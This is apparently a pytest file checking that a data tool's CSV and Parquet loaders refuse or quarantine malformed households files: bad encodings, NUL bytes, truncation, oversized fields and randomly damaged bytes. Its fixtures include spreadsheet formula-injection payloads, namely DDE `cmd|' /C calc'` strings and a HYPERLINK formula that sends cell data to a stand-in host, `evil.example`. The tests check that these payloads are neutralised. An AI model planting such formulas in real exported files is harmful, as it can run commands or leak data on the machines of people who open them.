"""Hostile files and bodies for the loaders: a clear error or a quarantined row, never a crash or a lost row.

Every malformed input either makes ``triage validate`` / ``triage load`` exit 2 with a one-line
reason naming the table (the whole table is unreadable: not UTF-8, a NUL character, a repeated
column name, a row with more fields than the header, a truncated Parquet file), or is read, and
then each data row is either valid or quarantined with its rule: rows read = valid + quarantined,
and rows read = the records Python's own ``csv`` module finds in the file.  The same holds for
``POST /v1/ingest/{table}`` (a 422 instead of exit 2) on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import itertools
import json

import hypothesis.strategies as st
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, event, given, settings
from typer.testing import CliRunner

from tests.support.exchange_rows import TINY_CITY, rows_as_csv
from triage.cli import app as cli
from triage.contract import TABLES
from triage.data_contracts import DatasetUnreadable, validate_dataset
from triage.db import engine_for

HOUSEHOLD_COLUMNS = TABLES["households"].column_names
HOUSEHOLDS_CSV = rows_as_csv(TINY_CITY["households"], HOUSEHOLD_COLUMNS).decode()
GOOD_ROW = "hh-extra,江城区,东湖街道,g-07,urban,2,false,2020-01-01T00:00:00Z"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]


def csv_rows(rows) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


#: name -> households.csv bytes; the other tables stay as in the tiny city.
UNREADABLE = {
    "gbk": HOUSEHOLDS_CSV.encode("gbk"),
    "utf16 with bom": HOUSEHOLDS_CSV.encode("utf-16"),
    "utf16 without bom": HOUSEHOLDS_CSV.encode("utf-16-le"),
    "utf32": HOUSEHOLDS_CSV.encode("utf-32"),
    "cut inside a quoted field": (HOUSEHOLDS_CSV + 'hh-x,"江城区,东湖').encode(),
    "cut inside a character": HOUSEHOLDS_CSV.encode()[
        : HOUSEHOLDS_CSV.encode().rindex("临".encode()) + 1
    ],
    "a NUL byte": HOUSEHOLDS_CSV.replace("g-31", "g-\x0031").encode(),
    "a row with more fields than the header": (HOUSEHOLDS_CSV + GOOD_ROW + ",surplus\n").encode(),
    "a repeated column name": HOUSEHOLDS_CSV.replace("grid_id", "street", 1).encode(),
    "an empty file": b"",
    "random bytes": bytes(range(256)) * 4,
}
#: name -> (households.csv bytes, the quarantine rules expected among the households).
READABLE = {
    "a utf-8 bom and CRLF": ("\ufeff" + HOUSEHOLDS_CSV.replace("\n", "\r\n"), {}),
    "a row with fewer fields": (
        HOUSEHOLDS_CSV + "hh-short,江城区,东湖街道\n",
        {"missing_required": 1},
    ),
    "a field of 5 MB": (
        HOUSEHOLDS_CSV + GOOD_ROW.replace("东湖街道", "街" * 5_000_000) + "\n",
        {"text_too_long": 1},
    ),
    "cut in the middle of the last row": (HOUSEHOLDS_CSV[:-12], {"bad_timestamp": 1}),
    "a header only": (HOUSEHOLDS_CSV.splitlines()[0] + "\n", {}),
    "formulas in quarantined rows": (
        HOUSEHOLDS_CSV
        + csv_rows(
            [formula, "江城区", "东湖街道", formula, "urban", "-3", "false", "not a time"]
            for formula in FORMULAS
        ),
        {"bad_id": 1, "bad_timestamp": len(FORMULAS) - 1},
    ),  # "\t=1+1" also has surrounding whitespace
    "a duplicated id": (
        HOUSEHOLDS_CSV + HOUSEHOLDS_CSV.splitlines()[1] + "\n",
        {"duplicate_id": 1},
    ),
    "lone carriage returns": (HOUSEHOLDS_CSV.replace("\n", "\r"), {}),
}


@pytest.fixture
def dataset_with(tmp_path):
    """The tiny city as CSV files with ``households.csv`` replaced by the bytes given."""

    written = itertools.count()

    def write(households: bytes, name: str = "city"):
        folder = tmp_path / f"{name}-{next(written)}"
        folder.mkdir()
        for table, rows in TINY_CITY.items():
            columns = [c for c in TABLES[table].column_names if any(c in row for row in rows)]
            (folder / f"{table}.csv").write_bytes(rows_as_csv(rows, columns))
        (folder / "households.csv").write_bytes(households)
        return folder

    return write


def csv_records(data: bytes) -> int:
    """Data rows as Python's csv module counts them (blank lines skipped, as the loader does)."""
    csv.field_size_limit(2**31 - 1)  # a 5 MB field is a record too
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return max(0, sum(1 for record in reader if record) - 1)


def run(*args) -> tuple[int, str]:
    result = CliRunner().invoke(cli, [*map(str, args)])
    return result.exit_code, result.output


@pytest.mark.parametrize("name", UNREADABLE)
def test_an_unreadable_table_is_exit_2_with_its_reason(name, dataset_with, tmp_path):
    folder = dataset_with(UNREADABLE[name])
    for command in (
        ["validate", folder, "--out", tmp_path / "out"],
        ["load", folder, "--db", f"sqlite:///{tmp_path / 'load.db'}"],
    ):
        code, output = run(*command)
        assert code == 2, output
        assert output.startswith("error: table households:") and "Traceback" not in output
        assert len(output.strip().splitlines()) == 1


def test_the_reasons_say_what_is_wrong(dataset_with):
    reasons = {}
    for name in (
        "gbk",
        "utf16 with bom",
        "a NUL byte",
        "a repeated column name",
        "a row with more fields than the header",
    ):
        with pytest.raises(DatasetUnreadable) as raised:
            validate_dataset(dataset_with(UNREADABLE[name], name.replace(" ", "-")))
        reasons[name] = str(raised.value)
    assert "not UTF-8" in reasons["gbk"] and "GBK" in reasons["gbk"]
    assert "UTF-16 byte-order mark" in reasons["utf16 with bom"]
    assert "column grid_id, row 3: a NUL character" in reasons["a NUL byte"]
    assert "written more than once: street" in reasons["a repeated column name"]
    assert "Expected 8 fields in line 5, saw 9" in reasons["a row with more fields than the header"]


@pytest.mark.parametrize("name", READABLE)
def test_a_readable_table_keeps_every_row_valid_or_quarantined(name, dataset_with, tmp_path):
    text, expected_rules = READABLE[name]
    folder = dataset_with(text.encode())
    code, output = run("validate", folder, "--out", tmp_path / "out")
    assert code == 0, output
    summary = json.loads((tmp_path / "out" / "validation.json").read_text())["tables"]["households"]
    assert summary["rows_read"] == csv_records(text.encode())
    assert summary["valid"] + summary["quarantined"] == summary["rows_read"]
    assert summary["by_rule"] == expected_rules
    quarantined = pd.read_csv(tmp_path / "out" / "quarantine" / "households.csv", dtype=str)
    assert len(quarantined) == summary["quarantined"]


def test_quarantine_csv_cells_do_not_run_as_formulas(dataset_with, tmp_path):
    text, _ = READABLE["formulas in quarantined rows"]
    run("validate", dataset_with(text.encode()), "--out", tmp_path / "out")
    with open(
        tmp_path / "out" / "quarantine" / "households.csv", encoding="utf-8", newline=""
    ) as file:
        rows = list(csv.DictReader(file))
    assert [row["household_id"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [row["grid_id"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert {row["size"] for row in rows} == {"-3"}  # a plain number is left alone
    report = (tmp_path / "out" / "report.md").read_text()
    assert not any(formula in report for formula in FORMULAS)  # the report names rows, not values


def test_a_dataset_read_by_load_stores_exactly_the_valid_rows(dataset_with, db_url):
    text, _ = READABLE["formulas in quarantined rows"]
    extra = csv_rows(
        [f"hh-f{i}", formula, "东湖街道", "g-1", "urban", "2", "false", "2020-01-01"]
        for i, formula in enumerate(FORMULAS)
    )
    code, output = run("load", dataset_with((text + extra).encode()), "--db", db_url)
    assert code == 0, output
    with engine_for(db_url).connect() as connection:
        districts = set(pd.read_sql("SELECT district FROM households", connection)["district"])
    assert set(FORMULAS) <= districts  # stored as written: only CSV output is neutralised
    assert len(districts) == len({r["district"] for r in TINY_CITY["households"]} | set(FORMULAS))


# -- random damage to a good file -------------------------------------------------------------

GOOD_FILE = (
    HOUSEHOLDS_CSV + "".join(GOOD_ROW.replace("hh-extra", f"hh-{i}") + "\n" for i in range(8))
).encode()
#: Bytes a CSV reader or a spreadsheet reads differently; the hard ones make a table unreadable.
SOFT_SPLINTERS = st.sampled_from(
    [
        b"\n",
        b"\r",
        b"\r\n",
        b"=",
        b"+",
        b"@",
        b"-",
        b"\t",
        b" ",
        b'""',
        b"x" * 5000,
        "街".encode(),
        '"a,\nb"'.encode(),
        "=cmd|' /C calc'!A0".encode(),
    ]
)
HARD_SPLINTERS = st.one_of(
    st.sampled_from([b'"', b",", b"\x00", b"\xff", b"\xef\xbb\xbf", "街".encode()[:2]]),
    st.binary(min_size=1, max_size=8),
)


@st.composite
def damaged_files(draw) -> bytes:
    """A good households.csv after one to four random cuts, insertions or re-encodings."""
    data = GOOD_FILE
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(data)))
        damage = draw(st.sampled_from(["cut", "soft", "soft", "soft", "soft", "hard", "encode"]))
        if damage == "cut":
            data = data[:at]
        elif damage in ("soft", "hard"):
            data = (
                data[:at] + draw(SOFT_SPLINTERS if damage == "soft" else HARD_SPLINTERS) + data[at:]
            )
        else:
            data = data.decode("utf-8", "replace").encode(
                draw(st.sampled_from(["gbk", "utf-16", "utf-16-be"])), "replace"
            )
    return data


@settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=damaged_files())
def test_a_damaged_file_is_refused_or_every_row_is_accounted_for(data, dataset_with):
    folder = dataset_with(data, name="damaged")
    try:
        result = validate_dataset(folder)
    except DatasetUnreadable as exc:
        assert str(exc).startswith("table households:") and "\n" not in str(exc)
        event("refused for the whole table")
        return
    event("read: rows valid or quarantined")
    households = result.summary["tables"]["households"]
    assert households["rows_read"] == csv_records(data)
    assert households["valid"] + households["quarantined"] == households["rows_read"]
    assert len(result.quarantine["households"]) == households["quarantined"]


# -- Parquet --------------------------------------------------------------------------------


def _households_table() -> pa.Table:
    return pa.Table.from_pylist([dict(row) for row in TINY_CITY["households"]])


def _truncated(path):
    path.write_bytes(path.read_bytes()[: len(path.read_bytes()) // 2])


def _with(column: str, values) -> pa.Table:
    table = _households_table()
    return table.set_column(table.schema.get_field_index(column), column, pa.array(values))


PARQUET_UNREADABLE = {
    "truncated": (_households_table(), _truncated, "cannot read households.parquet"),
    "not parquet at all": (
        _households_table(),
        lambda p: p.write_bytes(b"PAR1 not really"),
        "cannot read households.parquet",
    ),
    "a repeated column name": (
        _households_table().rename_columns(
            ["household_id", "district", "district", *HOUSEHOLD_COLUMNS[3:]]
        ),
        None,
        "written more than once: district",
    ),
    "a list column": (
        _with("district", [["a"], ["b"], ["c"]]),
        None,
        "column district, row 1: a nested value",
    ),
    "a struct column": (
        _with("street", [{"a": 1}, {"a": 2}, {"a": 3}]),
        None,
        "column street, row 1: a nested value",
    ),
    "a NUL in a string": (
        _with("grid_id", ["g-1", "g\x002", "g-3"]),
        None,
        "column grid_id, row 2: a NUL character",
    ),
    "bytes that are not UTF-8": (
        _with("district", [b"a", b"\xff", b"c"]),
        None,
        "cannot read households.parquet",
    ),
}


@pytest.mark.parametrize("name", PARQUET_UNREADABLE)
def test_an_unreadable_parquet_table_is_exit_2(name, tmp_path, write_dataset):
    table, spoil, reason = PARQUET_UNREADABLE[name]
    folder = write_dataset(
        {t: rows for t, rows in TINY_CITY.items() if t != "households"}, fmt="parquet"
    )
    pq.write_table(table, folder / "households.parquet")
    if spoil:
        spoil(folder / "households.parquet")
    code, output = run("validate", folder, "--out", tmp_path / "out")
    assert code == 2 and output.startswith("error: table households:") and reason in output, output


def test_typed_parquet_values_are_judged_as_text(tmp_path, write_dataset):
    """Huge, negative, NaN and fractional numbers and UTF-8 bytes: each row valid or quarantined."""
    folder = write_dataset(
        {t: rows for t, rows in TINY_CITY.items() if t != "households"}, fmt="parquet"
    )
    rows = [dict(TINY_CITY["households"][0], household_id=f"hh-{i}") for i in range(5)]
    table = pa.Table.from_pylist(rows)
    table = table.set_column(5, "size", pa.array([2, 2**62, -1, None, 3], pa.int64()))
    table = table.set_column(
        1, "district", pa.array(["江城区".encode(), b"x", b"=1+1", None, b"y"], pa.binary())
    )
    pq.write_table(table, folder / "households.parquet")
    result = validate_dataset(folder)
    households = result.quarantine["households"].set_index("row_number")
    assert households["rule"].to_dict() == {
        2: "out_of_range",
        3: "out_of_range",
        4: "missing_required",
    }
    assert list(result.valid["households"]["district"]) == ["江城区", "y"]
